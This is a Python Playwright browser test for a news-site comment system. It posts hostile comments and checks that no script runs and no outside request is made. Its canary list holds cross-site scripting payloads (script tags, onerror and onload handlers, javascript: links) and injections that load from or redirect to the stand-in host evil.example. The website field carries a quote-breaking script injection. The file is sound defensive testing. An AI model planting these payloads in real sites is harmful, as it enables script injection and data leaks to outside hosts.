"""S1 once in a real browser: hostile comments on every page, and nothing of them comes alive."""

from collections.abc import Callable
from itertools import islice
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.conftest import World
from tests.conftest import CORPORA
from tests.hostile.corpora import TEXTS, read_texts
from tests.hostile.inputs import SENDABLE
from tests.hostile.table import NOTED
from tests.web.asking import COMMENTS

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(600)]

Open = Callable[..., Page]
CANARIES = (
    "<script>window.__pwned = 1</script>", "<img src=x onerror='window.__pwned = 1'>",
    "<svg onload='window.__pwned = 1'>", "[x](javascript:window.__pwned=1)",
    "<javascript:window.__pwned=1>", '"><iframe srcdoc="<script>parent.__pwned = 1</script>">',
    "<style>@import 'https://evil.example/x.css'; * {display: none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><form action=https://evil.example/><button>x</button>",
    "![x](https://evil.example/pixel.png) <img src=https://evil.example/pixel.png>",
)  # fmt: skip
EACH = 120  # of each corpus
PHONE = {"width": 390, "height": 844}


def hostile_texts(folder: Path) -> list[str]:
    """Some of all corpora, evenly spread, and what would be seen to have come alive."""
    texts = [*CANARIES, *SENDABLE]
    for corpus in TEXTS:
        found, _ = read_texts(corpus, folder)
        texts += islice(found, 0, None, max(1, len(found) // EACH))
    return texts


def test_s1_nothing_comes_alive_in_a_browser(
    world: World,
    open_page: Open,
    visit_desk: Open,
    record_property: Callable[[str, object], None],
) -> None:
    if not (CORPORA / "badinputs").is_dir():
        pytest.skip(f"no badinputs in {CORPORA} (set COMMENT_DESK_CORPORA)")
    article = world.article()
    texts = hostile_texts(CORPORA / "badinputs")
    ids = [id_ for number, text in enumerate(texts) if (id_ := send(world, article, number, text))]
    failures: list[str] = []
    desk = f"/desk/?page_url={article}&limit=200"

    watch(visit_desk(desk, java_script_enabled=True, viewport=PHONE), world, failures)
    for start in range(0, len(ids), 200):
        world.approve(*ids[start : start + 200])
    watch(visit_desk(f"{desk}&status=published", java_script_enabled=True), world, failures)
    for address in (article, f"{world.thread(article)}&limit=200"):
        for viewport in (PHONE, {"width": 1280, "height": 800}):
            page = open_page(address, viewport=viewport)
            while (more := page.get_by_role("button", name="Show more comments")).count():
                shown = page.get_by_role("listitem").count()
                more.click()
                expect(page.locator("li.comment").nth(shown)).to_be_attached()
            watch(page, world, failures)

    noted = ("all corpora", "in chromium", len(texts), len(texts), len(texts) - len(ids), len(ids))
    record_property(NOTED, (*noted, len(failures)))
    assert failures == []
    assert len(ids) > 300


def send(world: World, article: str, number: int, text: str) -> str:
    """The id of a comment with this text as its words and in its name, or nothing if refused."""
    fields = {
        "site": "news", "page_url": article, "page_title": text[:300], "comment": text,
        "name": text[:90] or "Ann", "email": f"reader{number}@mail.example",
        "website": f"https://a.example/?{number}\"'><script>window.__pwned=1</script>",
    }  # fmt: skip
    try:
        answer = world.client.post(COMMENTS, json=fields)
    except UnicodeEncodeError:  # a lone surrogate
        return ""
    assert answer.status_code in (201, 422), answer.text
    return str(answer.json().get("id", ""))


def watch(page: Page, world: World, failures: list[str]) -> None:
    """Load the page again with an eye on all it does, and look whether it still fits its window."""

    def hear(dialog: Dialog) -> None:
        failures.append(f"{page.url}: dialog {dialog.message}")
        dialog.dismiss()

    def see(request: Request) -> None:
        if not request.url.startswith((world.service.url, world.articles, "data:")):
            failures.append(f"{page.url}: asks {request.url}")

    page.on("dialog", hear)
    page.on("request", see)
    page.reload(wait_until="networkidle")
    if page.evaluate("window.__pwned") is not None:
        failures.append(f"{page.url}: a script has run")
    width = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    if width[0] > width[1]:
        failures.append(f"{page.url}: {width[0]} wide in a window of {width[1]}")
